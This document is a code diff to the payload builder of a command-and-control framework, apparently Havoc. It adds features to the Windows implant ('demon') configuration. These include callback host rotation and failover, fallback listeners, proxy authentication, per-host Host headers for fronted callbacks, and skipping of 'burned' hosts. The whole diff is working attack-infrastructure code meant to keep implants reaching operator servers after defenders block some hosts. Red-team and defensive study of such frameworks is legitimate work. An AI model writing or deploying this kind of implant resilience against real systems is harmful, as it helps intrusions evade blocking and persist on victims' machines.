@@ -56,6 +56,24 @@ const (
 	PROXYLOADING_RTLQUEUEWORKITEM = 3
 )
 
+const (
+	HOST_ROTATION_ROUND_ROBIN = 0
+	HOST_ROTATION_RANDOM      = 1
+	HOST_ROTATION_FAILOVER    = 2
+)
+
+const (
+	PROXY_MODE_SYSTEM   = 0
+	PROXY_MODE_EXPLICIT = 1
+	PROXY_MODE_DIRECT   = 2
+)
+
+const (
+	PROXY_AUTH_NONE  = 0
+	PROXY_AUTH_BASIC = 1
+	PROXY_AUTH_NTLM  = 2
+)
+
 const (
 	AMSIETW_PATCH_NONE   = 0
 	AMSIETW_PATCH_HWBP   = 1
@@ -73,6 +91,8 @@ type BuilderConfig struct {
 	Nasm       string
 	DebugDev   bool
 	SendLogs   bool
+	// max response size the demon advertises to the teamserver. 0 is no limit
+	MaxResponse int
 }
 
 type Builder struct {
@@ -110,6 +130,8 @@ type Builder struct {
 		ListenerType   int
 		ListenerConfig any
 		Config         map[string]any
+		// listeners the demon fails over to (in order) once every host of its listener is dead
+		Fallbacks []*handlers.HTTP
 	}
 
 	ImplantOptions struct {
@@ -135,6 +157,11 @@ type Builder struct {
 	outputPath string
 	preBytes   []byte
 
+	/* hosts that shouldn't be embedded into the payload */
+	ExcludeHosts []string
+	/* hosts that have been embedded into the payload */
+	CallbackHosts []string
+
 	SendConsoleMessage func(MsgType, Message string)
 }
 
@@ -265,6 +292,11 @@ func (b *Builder) Build() bool {
 
 	b.compilerOptions.Defines = append(b.compilerOptions.Defines, "CONFIG_BYTES="+array)
 
+	// max response size the transport takes. the teamserver splits bigger task payloads
+	if b.compilerOptions.Config.MaxResponse > 0 {
+		b.compilerOptions.Defines = append(b.compilerOptions.Defines, fmt.Sprintf("TRANSPORT_MAX_RESPONSE=%d", b.compilerOptions.Config.MaxResponse))
+	}
+
 	// enable sending debug entries over HTTP(S) to the teamserver
 	if b.compilerOptions.Config.SendLogs {
 		b.compilerOptions.Defines = append(b.compilerOptions.Defines, "SEND_LOGS")
@@ -397,6 +429,8 @@ func (b *Builder) Build() bool {
 		DllPayload.SetFormat(FILETYPE_WINDOWS_DLL)
 		DllPayload.SetPatchConfig(b.ProfileConfig.Original)
 		DllPayload.SetListener(b.config.ListenerType, b.config.ListenerConfig)
+		DllPayload.SetFallbacks(b.config.Fallbacks)
+		DllPayload.SetExcludeHosts(b.ExcludeHosts)
 		if b.config.Arch == ARCHITECTURE_X64 {
 			DllPayload.SetExtension(".x64.dll")
 		} else {
@@ -461,6 +495,29 @@ func (b *Builder) SetListener(Type int, Config any) {
 	b.config.ListenerConfig = Config
 }
 
+// SetFallbacks
+// sets the http listeners the demon fails over to, in order, once every
+// host of its listener (and of the fallbacks before) is dead.
+func (b *Builder) SetFallbacks(Listeners []*handlers.HTTP) {
+	b.config.Fallbacks = Listeners
+}
+
+func (b *Builder) SetExcludeHosts(Hosts []string) {
+	b.ExcludeHosts = Hosts
+}
+
+func (b *Builder) IsHostExcluded(Host string) bool {
+	Host = strings.ToLower(strings.Split(Host, ":")[0])
+
+	for _, Exclude := range b.ExcludeHosts {
+		if strings.ToLower(strings.Split(Exclude, ":")[0]) == Host {
+			return true
+		}
+	}
+
+	return false
+}
+
 func (b *Builder) SetPatchConfig(Config any) {
 	logger.Debug("Set Patch config from Profile")
 	if Config != nil {
@@ -865,19 +922,10 @@ func (b *Builder) PatchConfig() ([]byte, error) {
 	switch b.config.ListenerType {
 	case handlers.LISTENER_HTTP:
 		var (
-			Config    = b.config.ListenerConfig.(*handlers.HTTP)
-			Port, err = strconv.Atoi(Config.Config.PortConn)
+			Config      = b.config.ListenerConfig.(*handlers.HTTP)
+			HostHeaders []string
 		)
 
-		if Config.Config.PortConn != "" && err != nil {
-			return nil, errors.New("Failed to parse the PortConn: " + Config.Config.PortConn)
-		} else if Config.Config.PortConn == "" {
-			Port, err = strconv.Atoi(Config.Config.PortBind)
-			if err != nil {
-				return nil, errors.New("Failed to parse the PortBind: " + Config.Config.PortBind)
-			}
-		}
-
 		DemonConfig.AddInt64(Config.Config.KillDate)
 
 		WorkingHours, err := common.ParseWorkingHours(Config.Config.WorkingHours)
@@ -896,104 +944,96 @@ func (b *Builder) PatchConfig() ([]byte, error) {
 
 		switch Config.Config.HostRotation {
 		case "round-robin":
-			DemonConfig.AddInt(0)
+			DemonConfig.AddInt(HOST_ROTATION_ROUND_ROBIN)
 			break
 
 		case "random":
-			DemonConfig.AddInt(1)
+			DemonConfig.AddInt(HOST_ROTATION_RANDOM)
+			break
+
+		case "failover":
+			DemonConfig.AddInt(HOST_ROTATION_FAILOVER)
 			break
 
 		default:
-			DemonConfig.AddInt(1)
+			DemonConfig.AddInt(HOST_ROTATION_RANDOM)
 			break
 		}
 
-		DemonConfig.AddInt(len(Config.Config.Hosts))
-		for _, host := range Config.Config.Hosts {
-			var HostPort []string
+		b.CallbackHosts = nil
+
+		if HostHeaders, err = b.httpHosts(DemonConfig, Config); err != nil {
+			return nil, err
+		}
+
+		b.httpRequest(DemonConfig, Config)
 
-			logger.Debug(fmt.Sprintf("Host => %v", host))
+		// adding proxy connection info
+		switch handlers.ProxyMode(Config.Config) {
 
-			HostPort = strings.Split(host, ":")
-			host = HostPort[0]
-			if len(HostPort) > 1 {
-				/* seems like we specified host:port */
-				logger.Debug("host:port")
+		case handlers.PROXY_MODE_EXPLICIT:
+			var ProxyUrl = fmt.Sprintf("%v://%v:%v", Config.Config.Proxy.Type, Config.Config.Proxy.Host, Config.Config.Proxy.Port)
 
-				var (
-					Host = HostPort[0]
-					Port int
-				)
+			DemonConfig.AddInt(PROXY_MODE_EXPLICIT)
+			DemonConfig.AddWString(ProxyUrl)
+			DemonConfig.AddWString(Config.Config.Proxy.Username)
+			DemonConfig.AddWString(Config.Config.Proxy.Password)
 
-				if val, err := strconv.Atoi(HostPort[1]); err == nil {
-					Port = val
-				} else {
-					logger.Error("Failed convert Port string to int: " + err.Error())
-					return nil, err
-				}
+			switch strings.ToLower(Config.Config.Proxy.Auth) {
 
-				/* Adding Host:Port */
-				DemonConfig.AddWString(common.GetInterfaceIpv4Addr(Host))
-				DemonConfig.AddInt(Port)
-			} else {
-				/* seems like we specified host only. append the listener bind port to it */
-				logger.Debug("host only")
+			case "basic":
+				DemonConfig.AddInt(PROXY_AUTH_BASIC)
+				break
 
-				/* Adding Host:Port */
-				DemonConfig.AddWString(common.GetInterfaceIpv4Addr(HostPort[0]))
-				DemonConfig.AddInt(Port)
-			}
-		}
+			case "ntlm":
+				DemonConfig.AddInt(PROXY_AUTH_NTLM)
+				break
 
-		if Config.Config.Secure {
-			DemonConfig.AddInt(win32.TRUE)
-		} else {
-			DemonConfig.AddInt(win32.FALSE)
-		}
-		DemonConfig.AddWString(Config.Config.UserAgent)
+			default:
+				DemonConfig.AddInt(PROXY_AUTH_NONE)
+				break
+			}
 
-		if len(Config.Config.Headers) == 0 {
-			if len(Config.Config.HostHeader) > 0 {
-				DemonConfig.AddInt(2)
-				DemonConfig.AddWString("Content-type: */*")
-				DemonConfig.AddWString("Host: " + Config.Config.HostHeader)
+			if len(Config.Config.Proxy.Bypass) > 0 {
+				DemonConfig.AddWString(strings.Join(Config.Config.Proxy.Bypass, ";"))
 			} else {
-				DemonConfig.AddInt(1)
-				DemonConfig.AddWString("Content-type: */*")
+				DemonConfig.AddBytes([]byte{})
 			}
-		} else {
-			if len(Config.Config.HostHeader) > 0 {
-				Config.Config.Headers = append(Config.Config.Headers, "Host: "+Config.Config.HostHeader)
+
+			if !b.silent {
+				b.SendConsoleMessage("Info", "using explicit proxy: "+ProxyUrl)
 			}
+			break
+
+		case handlers.PROXY_MODE_DIRECT:
+			DemonConfig.AddInt(PROXY_MODE_DIRECT)
 
-			DemonConfig.AddInt(len(Config.Config.Headers))
-			for _, headers := range Config.Config.Headers {
-				logger.Debug(headers)
-				DemonConfig.AddWString(headers)
+			if !b.silent {
+				b.SendConsoleMessage("Info", "using no proxy (direct connection)")
 			}
+			break
+
+		default:
+			DemonConfig.AddInt(PROXY_MODE_SYSTEM)
+			break
 		}
 
-		if len(Config.Config.Uris) == 0 {
-			DemonConfig.AddInt(1)
-			DemonConfig.AddWString("/")
-		} else {
-			DemonConfig.AddInt(len(Config.Config.Uris))
-			for _, uri := range Config.Config.Uris {
-				logger.Debug(uri)
-				DemonConfig.AddWString(uri)
+		// adding the Host header of each callback host
+		b.httpHostHeaders(DemonConfig, HostHeaders)
+
+		// adding the listeners to fail over to (in order) once every host of the current one is dead
+		DemonConfig.AddInt(len(b.config.Fallbacks))
+		for _, Fallback := range b.config.Fallbacks {
+			if HostHeaders, err = b.httpHosts(DemonConfig, Fallback); err != nil {
+				return nil, err
 			}
-		}
 
-		// adding proxy connection info
-		if Config.Config.Proxy.Enabled {
-			DemonConfig.AddInt(win32.TRUE)
-			var ProxyUrl = fmt.Sprintf("%v://%v:%v", Config.Config.Proxy.Type, Config.Config.Proxy.Host, Config.Config.Proxy.Port)
+			b.httpRequest(DemonConfig, Fallback)
+			b.httpHostHeaders(DemonConfig, HostHeaders)
 
-			DemonConfig.AddWString(ProxyUrl)
-			DemonConfig.AddWString(Config.Config.Proxy.Username)
-			DemonConfig.AddWString(Config.Config.Proxy.Password)
-		} else {
-			DemonConfig.AddInt(win32.FALSE)
+			if !b.silent {
+				b.SendConsoleMessage("Info", "failover to listener: "+Fallback.Config.Name)
+			}
 		}
 
 		break
@@ -1021,6 +1061,141 @@ func (b *Builder) PatchConfig() ([]byte, error) {
 	return DemonConfig.Buffer(), nil
 }
 
+// httpHosts
+// adds the callback hosts of the http listener, leaving out the burned
+// ones. Returns the Host header of each host that has been added.
+func (b *Builder) httpHosts(DemonConfig *packer.Packer, Config *handlers.HTTP) ([]string, error) {
+	var (
+		Hosts       []string
+		HostHeaders []string
+		Port, err   = strconv.Atoi(Config.Config.PortConn)
+	)
+
+	if Config.Config.PortConn != "" && err != nil {
+		return nil, errors.New("Failed to parse the PortConn: " + Config.Config.PortConn)
+	} else if Config.Config.PortConn == "" {
+		Port, err = strconv.Atoi(Config.Config.PortBind)
+		if err != nil {
+			return nil, errors.New("Failed to parse the PortBind: " + Config.Config.PortBind)
+		}
+	}
+
+	/* don't embed hosts that have been marked as burned */
+	for i, host := range Config.Config.Hosts {
+		if b.IsHostExcluded(host) {
+			if !b.silent {
+				b.SendConsoleMessage("Info", "skipping burned host: "+host)
+			}
+			continue
+		}
+
+		Hosts = append(Hosts, host)
+		if i < len(Config.Config.HostHeaders) {
+			HostHeaders = append(HostHeaders, Config.Config.HostHeaders[i])
+		}
+	}
+
+	if len(Hosts) == 0 {
+		if !b.silent {
+			b.SendConsoleMessage("Error", "every host of the listener "+Config.Config.Name+" has been burned")
+		}
+		return nil, errors.New("every host of the listener " + Config.Config.Name + " has been burned")
+	}
+
+	DemonConfig.AddInt(len(Hosts))
+	for _, host := range Hosts {
+		var HostPort []string
+
+		b.CallbackHosts = append(b.CallbackHosts, strings.Split(host, ":")[0])
+
+		logger.Debug(fmt.Sprintf("Host => %v", host))
+
+		HostPort = strings.Split(host, ":")
+		if len(HostPort) > 1 {
+			/* seems like we specified host:port */
+			logger.Debug("host:port")
+
+			var (
+				Host = HostPort[0]
+				Port int
+			)
+
+			if val, err := strconv.Atoi(HostPort[1]); err == nil {
+				Port = val
+			} else {
+				logger.Error("Failed convert Port string to int: " + err.Error())
+				return nil, err
+			}
+
+			/* Adding Host:Port */
+			DemonConfig.AddWString(common.GetInterfaceIpv4Addr(Host))
+			DemonConfig.AddInt(Port)
+		} else {
+			/* seems like we specified host only. append the listener bind port to it */
+			logger.Debug("host only")
+
+			/* Adding Host:Port */
+			DemonConfig.AddWString(common.GetInterfaceIpv4Addr(HostPort[0]))
+			DemonConfig.AddInt(Port)
+		}
+	}
+
+	return HostHeaders, nil
+}
+
+// httpRequest
+// adds how the requests to the http listener look like (tls, user agent,
+// headers and uris).
+func (b *Builder) httpRequest(DemonConfig *packer.Packer, Config *handlers.HTTP) {
+	var Headers = Config.Config.Headers
+
+	if Config.Config.Secure {
+		DemonConfig.AddInt(win32.TRUE)
+	} else {
+		DemonConfig.AddInt(win32.FALSE)
+	}
+	DemonConfig.AddWString(Config.Config.UserAgent)
+
+	if len(Headers) == 0 {
+		Headers = []string{"Content-type: */*"}
+	}
+
+	/* don't append the Host header to the listener config itself */
+	if len(Config.Config.HostHeader) > 0 {
+		Headers = append(Headers[:len(Headers):len(Headers)], "Host: "+Config.Config.HostHeader)
+	}
+
+	DemonConfig.AddInt(len(Headers))
+	for _, headers := range Headers {
+		logger.Debug(headers)
+		DemonConfig.AddWString(headers)
+	}
+
+	if len(Config.Config.Uris) == 0 {
+		DemonConfig.AddInt(1)
+		DemonConfig.AddWString("/")
+	} else {
+		DemonConfig.AddInt(len(Config.Config.Uris))
+		for _, uri := range Config.Config.Uris {
+			logger.Debug(uri)
+			DemonConfig.AddWString(uri)
+		}
+	}
+}
+
+// httpHostHeaders
+// adds the Host header of each callback host (same order as the hosts).
+func (b *Builder) httpHostHeaders(DemonConfig *packer.Packer, HostHeaders []string) {
+	DemonConfig.AddInt(len(HostHeaders))
+	for _, header := range HostHeaders {
+		if len(header) > 0 {
+			DemonConfig.AddWString("Host: " + header)
+		} else {
+			DemonConfig.AddBytes([]byte{})
+		}
+	}
+}
+
 func (b *Builder) GetPayloadBytes() []byte {
 
 	if len(b.preBytes) > 0 {